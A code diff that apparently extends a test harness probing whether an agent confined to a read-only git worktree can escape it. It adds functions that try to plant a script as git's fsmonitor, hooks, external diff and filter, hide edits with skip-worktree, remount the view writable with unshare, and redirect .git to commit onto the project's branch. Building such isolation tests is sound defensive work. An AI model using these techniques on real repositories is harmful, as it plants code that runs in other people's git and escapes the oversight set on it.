@@ -109,9 +109,81 @@ def escaping_symlinks(targets):
     return "linked"
 
 
+def _git_dirs():
+    """The repository's git directory and the worktree's own, as the worktree's .git file names them."""
+    own = open(".git").read().removeprefix("gitdir:").strip()
+    return os.path.dirname(os.path.dirname(own)), own
+
+
+def _git_refused(argv):
+    """What became of a git command: "refused: " and the last line git said, or "ran" when it succeeded."""
+    try:
+        done = subprocess.run(argv, capture_output=True, text=True, timeout=60)
+    except OSError as error:
+        return f"refused: {error.strerror}"
+    said = (done.stderr or done.stdout).strip().splitlines()
+    return f"refused: {said[-1] if said else f'exit code {done.returncode}'}" if done.returncode else "ran"
+
+
+def plant_git(targets):
+    """Plant, through the read-only view of the repository's git, what the console's git would obey or
+    read: configuration naming a program, hooks, refs, alternates, attributes, the worktree's HEAD and
+    index (a skip-worktree bit would hide a change from the console). Then change a tracked file."""
+    common, own = _git_dirs()
+    payload = os.path.abspath("payload.sh")
+    with open(payload, "w") as script:
+        script.write(f"#!/bin/sh\nenv > {targets['marker']}\ncat\n")
+    os.chmod(payload, 0o755)
+    head = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
+    writes = {
+        "config": (f"{common}/config", f"[core]\n\tfsmonitor = {payload}\n\thooksPath = {os.getcwd()}\n"),
+        "hook": (f"{common}/hooks/pre-commit", f"#!/bin/sh\n{payload}\n"),
+        "info/attributes": (f"{common}/info/attributes", "* filter=evil diff=evil\n"),
+        "packed-refs": (f"{common}/packed-refs", f"{head} refs/heads/planted\n"),
+        "ref": (f"{common}/refs/heads/planted", f"{head}\n"),
+        "alternates": (f"{common}/objects/info/alternates", "/tmp/objects\n"),
+        "worktree HEAD": (f"{own}/HEAD", f"{head}\n"),
+        "index": (f"{own}/index", "planted"),
+        "commondir": (f"{own}/commondir", "/tmp\n"),
+    }
+    found = {name: _try(lambda path=path, text=text: open(path, "a").write(text) and "wrote")
+             for name, (path, text) in writes.items()}
+    found["hooks folder"] = _try(lambda: os.mkdir(f"{common}/hooks") or "made")
+    found["hard link to the index"] = _try(lambda: os.link(f"{own}/index", "index-link") or "linked")
+    identity = ["-c", "user.name=Agent", "-c", "user.email=agent@example.com"]
+    commands = {
+        "git config core.fsmonitor": ["git", "config", "core.fsmonitor", payload],
+        "git config core.hooksPath": ["git", "config", "core.hooksPath", os.getcwd()],
+        "git config diff.external": ["git", "config", "diff.external", payload],
+        "git config filter.evil.clean": ["git", "config", "filter.evil.clean", payload],
+        "git update-ref": ["git", "update-ref", "refs/heads/planted", "HEAD"],
+        "git update-index --skip-worktree": ["git", "update-index", "--skip-worktree", "README.md"],
+        "git add": ["git", "add", "--all"],
+        "git commit": ["git", *identity, "commit", "--all", "-m", "planted"],
+        "git stash": ["git", *identity, "stash"],
+        "remount writable": ["unshare", "-Urm", "mount", "-o", "remount,bind,rw", own],
+    }
+    open("README.md", "a").write("a line the agent added\n")
+    found["git log"] = _git_refused(["git", "log", "--oneline"])
+    found.update({name: _git_refused(argv) for name, argv in commands.items()})
+    open(".gitattributes", "w").write("* filter=evil diff=evil\n")
+    return json.dumps(found)
+
+
+def retarget_git(targets):
+    """Point .git at the repository's own git directory, then commit there, onto the project's branch."""
+    common, _own = _git_dirs()
+    with open(".git", "w") as dot_git:
+        dot_git.write(f"gitdir: {common}\n")
+    open("retargeted.txt", "w").write("committed onto the project's branch?")
+    identity = ["-c", "user.name=Agent", "-c", "user.email=agent@example.com"]
+    return json.dumps({"git add": _git_refused(["git", "add", "--all"]),
+                       "git commit": _git_refused(["git", *identity, "commit", "-m", "retargeted"])})
+
+
 ACTS = {name: act for name, act in globals().items() if callable(act) and name in {
     "read_secrets", "read_file", "list_folder", "write_outside", "redirect_git", "delete_git", "plant_repository",
-    "plant_nested_repository", "escaping_symlinks"}}
+    "plant_nested_repository", "escaping_symlinks", "plant_git", "retarget_git"}}
 
 
 def main():
